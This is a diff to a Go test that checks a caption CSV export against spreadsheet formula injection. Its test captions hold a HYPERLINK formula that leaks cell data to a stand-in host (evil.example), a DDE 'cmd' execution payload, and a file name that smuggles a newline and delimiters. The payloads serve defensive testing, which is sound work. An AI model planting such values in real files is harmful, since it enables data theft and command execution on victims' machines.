@@ -15,6 +15,8 @@ func TestExport(t *testing.T) {
 	captions := map[string]string{
 		"equals.jpg": `=HYPERLINK("http://evil.example/"&A1) Boats leave.`, "plus.jpg": "+1+A1 Boats leave a harbour.", "minus.jpg": "-2+3 Boats leave a harbour.",
 		"at.jpg": "@SUM(A1) Boats leave a harbour.", "space.jpg": "  =1+1 Boats leave a harbour.", "wide.jpg": "＝1+1 Boats leave a harbour.", "plain.jpg": "Boats, \"red\"\nand blue. REUTERS/Joan Baird", "-key.jpg": "A boat.",
+		"semicolon.jpg": `A boat; =cmd|' /C calc'!A0; "@SUM(1+1)" and more.`, "line.jpg": "A boat.\n=1+1\n\t-2 and more.",
+		"new\nline,;\"<b>.jpg": "A boat in a harbour.",
 	}
 	n := 0
 	for key, caption := range captions {
@@ -36,8 +38,14 @@ func TestExport(t *testing.T) {
 			}
 		}
 		key := strings.TrimPrefix(row[1], "'")
-		if got := strings.TrimPrefix(row[len(row)-1], "'"); got != captions[key] {
+		if got := row[len(row)-1]; strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(captions[key], "'", "") {
 			t.Errorf("%s: %q, want %q", key, got, captions[key])
+		}
+	}
+	// Nor does one where a spreadsheet cuts at semicolons and minds no quotes.
+	for cell := range strings.FieldsFuncSeq(strings.TrimPrefix(body, "\uFEFF"), func(c rune) bool { return strings.ContainsRune(";\t\r\n", c) }) {
+		if trimmed := strings.TrimLeft(cell, ` "`); trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@|%") {
+			t.Errorf("cut at semicolons, a cell begins like a formula: %q", cell)
 		}
 	}
 	_, body = get(t, s.URL+"/export.json?prefix=plain")
